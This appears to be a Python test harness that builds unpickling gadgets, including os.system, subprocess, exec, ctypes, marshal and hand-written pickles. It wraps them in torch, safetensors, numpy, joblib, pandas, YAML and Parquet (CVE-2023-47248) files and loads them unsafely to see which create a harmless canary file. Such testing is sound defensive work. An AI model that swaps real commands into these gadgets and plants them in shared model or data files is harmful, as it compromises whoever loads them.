"""Files that run a command of their maker's when they are unpickled: pickles, and the formats that hold pickles.

Each is harmless: all that it does is to make one empty file, the canary. `main` loads them all as carelessly as can be,
to tell which of them would do so.
"""

from __future__ import annotations

import functools
import gzip
import importlib
import io
import marshal
import operator
import os
import pickle
import pkgutil
import runpy
import subprocess
import sys
import tarfile
import timeit
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import torch
from safetensors.numpy import save as save_arrays


class Call:
    """An object whose pickle calls a function, or what another call returns, when it is read."""

    def __init__(self, function: Any, *arguments: Any, state: Any = None) -> None:
        self.function, self.arguments, self.state = function, arguments, state

    def __call__(self) -> None:
        """Be callable, which is all that pickle asks of what stands for a function."""

    def __reduce__(self) -> tuple[Any, ...]:
        made = self.function, self.arguments
        return made if self.state is None else (*made, self.state)


def _calls(canary: Path) -> dict[str, Call]:
    """Return objects that make the canary when they are unpickled, by the way they do it."""
    name, code, shell = str(canary), f"open({str(canary)!r}, 'w').close()", f"touch '{canary}'"
    script = canary.with_suffix(".script.py")
    script.write_text(code)
    os_module, ctypes_module = (Call(importlib.import_module, module) for module in ("os", "ctypes"))
    library = Call(Call(getattr, ctypes_module, "CDLL"), None)
    function = Call(operator.attrgetter("FunctionType"), Call(importlib.import_module, "types"))
    compiled = Call(marshal.loads, marshal.dumps(compile(code, "gadget", "exec")))
    return {
        "os.system": Call(os.system, shell),
        "os.open": Call(os.open, name, os.O_CREAT),
        "os.spawnv": Call(os.spawnv, os.P_WAIT, "/bin/sh", ["sh", "-c", shell]),
        "subprocess.check_call": Call(subprocess.check_call, ["/bin/sh", "-c", shell]),
        "subprocess.getoutput": Call(subprocess.getoutput, shell),
        "builtins.exec": Call(exec, code),
        "builtins.eval": Call(eval, code),
        "builtins.open": Call(open, name, "w"),
        "builtins.__import__": Call(Call(getattr, Call(__import__, "os"), "system"), shell),
        "builtins.getattr": Call(Call(Call(getattr, os_module, "__getattribute__"), "system"), shell),
        "builtins.map": Call(list, Call(map, Path.touch, [canary])),
        "pathlib.Path.touch": Call(Path.touch, canary),
        "pkgutil.resolve_name": Call(Call(pkgutil.resolve_name, "os:system"), shell),
        "importlib.import_module": Call(Call(operator.attrgetter("system"), os_module), shell),
        "runpy.run_path": Call(runpy.run_path, str(script)),
        "ctypes.CDLL": Call(Call(getattr, library, "system"), shell.encode()),
        "operator.methodcaller": Call(operator.methodcaller("system", shell), os_module),
        "functools.partial": Call(functools.partial(os.system, shell)),
        "functools.reduce": Call(functools.reduce, os.open, [name, os.O_CREAT]),
        "marshalled code": Call(Call(function, compiled, {"__builtins__": {"open": open}})),
        "timeit.timeit": Call(timeit.timeit, code, "pass", timeit.default_timer, 1),
        "a pickle in a pickle": Call(pickle.loads, pickle.dumps(Call(os.system, shell))),
        "a state that is set": Call(Call(functools.partial, print, state=(os.system, (shell,), {}, {}))),
    }


def _written_by_hand(canary: Path) -> dict[str, bytes]:
    """Return pickles of forms that pickle itself no longer writes."""
    shell = f"touch '{canary}'"
    quoted, counted = repr(shell).encode(), len(shell).to_bytes(4, "little") + shell.encode()
    return {
        "GLOBAL of protocol 0": b"cposix\nsystem\n(S" + quoted + b"\ntR.",
        "INST": b"(S" + quoted + b"\niposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\nX" + counted + b"o.",
        "STACK_GLOBAL without a frame": b"\x80\x04\x8c\x05posix\x8c\x06system\x93X" + counted + b"\x85R.",
    }


def _torch_files(gadget: Call) -> dict[str, bytes]:
    """Return a gadget in the formats of torch.save, old ones too, and in a safetensors file and behind one."""
    now, before = io.BytesIO(), io.BytesIO()
    torch.save({"weight": gadget}, now)
    torch.save({"weight": gadget}, before, _use_new_zipfile_serialization=False)
    return {
        "torch.save": now.getvalue(),
        "torch.save in a zip": _zipped("data.pkl", now.getvalue()),
        "torch.save before 2020": before.getvalue(),
        "torch.save before 2018, a tar": _tarred("pickle", pickle.dumps(gadget)),
        "torch.save in a safetensors file": save_arrays({"weight": np.frombuffer(now.getvalue(), np.uint8)}),
        "torch.save behind a safetensors file": save_arrays({"weight": np.zeros(2)}) + now.getvalue(),
    }


def _files_of_others(gadget: Call) -> dict[str, bytes]:
    """Return a gadget in files of numpy, joblib, pandas and YAML, and in an extension type of Arrow."""
    objects, npy, npz = np.array([gadget, None], dtype=object), io.BytesIO(), io.BytesIO()
    np.save(npy, objects, allow_pickle=True)
    np.savez(npz, weight=objects)
    return {
        "numpy .npy": npy.getvalue(),
        "numpy .npz": npz.getvalue(),
        "joblib with zlib": zlib.compress(pickle.dumps(gadget)),
        "joblib with gzip": gzip.compress(pickle.dumps(gadget)),
        "pandas.to_pickle": pickle.dumps(pd.DataFrame({"study_uid": objects})),
        "YAML": f"!!python/object/apply:os.system [{gadget.arguments[0]!r}]\n".encode(),
        "Parquet": _parquet(pickle.dumps(gadget)),
    }


def _zipped(name: str, data: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(name, data)
    return held.getvalue()


def _tarred(name: str, data: bytes) -> bytes:
    held, entry = io.BytesIO(), tarfile.TarInfo(name)
    entry.size = len(data)
    with tarfile.open(fileobj=held, mode="w") as archive:
        archive.addfile(entry, io.BytesIO(data))
    return held.getvalue()


def _untarred(name: str, held: io.BytesIO) -> bytes:
    with tarfile.open(fileobj=held) as archive:
        file = archive.extractfile(name)
        return file.read() if file else b""


def _parquet(pickled: bytes) -> bytes:
    """Return a Parquet file with a column whose type is a pickle: Arrow before 14.0.1 unpickles it (CVE-2023-47248)."""
    said = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickled}
    schema, held = pa.schema([pa.field("study_uid", pa.string(), metadata=said)]), io.BytesIO()
    pq.write_table(pa.table([pa.array(["1.2.3"])], schema=schema), held)
    return held.getvalue()


def build_gadgets(canary: Path) -> dict[str, bytes]:
    """Return the bytes of such files by what they are; a script beside the canary is part of one of them."""
    calls = _calls(canary)
    pickled = {name: pickle.dumps(call, protocol=2 + turn % 4) for turn, (name, call) in enumerate(calls.items())}
    hidden = calls["os.system"]
    return pickled | _written_by_hand(canary) | _torch_files(hidden) | _files_of_others(hidden)


def load_carelessly(data: bytes) -> Iterator[object]:
    """Load a file in all the ways that nobody should, one after the other; each may raise anything."""
    held = io.BytesIO(data)
    ways = (
        lambda: pickle.loads(data),
        lambda: torch.load(held, weights_only=False),
        lambda: np.load(held, allow_pickle=True),
        lambda: np.load(held, allow_pickle=True)["weight"],
        lambda: pickle.loads(zlib.decompress(data)),
        lambda: pickle.loads(gzip.decompress(data)),
        lambda: torch.load(io.BytesIO(zipfile.ZipFile(held).read("data.pkl")), weights_only=False),
        lambda: pickle.loads(_untarred("pickle", held)),
        lambda: torch.load(io.BytesIO(data[data.index(b"PK") :]), weights_only=False),
    )
    for way in ways:
        held.seek(0)
        with suppress(Exception):
            yield way()


def is_live(data: bytes, canary: Path) -> bool:
    """Tell whether a careless loader makes the canary of a file; it is gone afterwards."""
    live = any(canary.exists() for _ in load_carelessly(data)) or canary.exists()
    canary.unlink(missing_ok=True)
    return live


def main() -> None:
    """Print the names of the gadgets that work on a careless loader, for the canary that is the argument."""
    canary = Path(sys.argv[1])
    print("\n".join(name for name, data in build_gadgets(canary).items() if is_live(data, canary)))
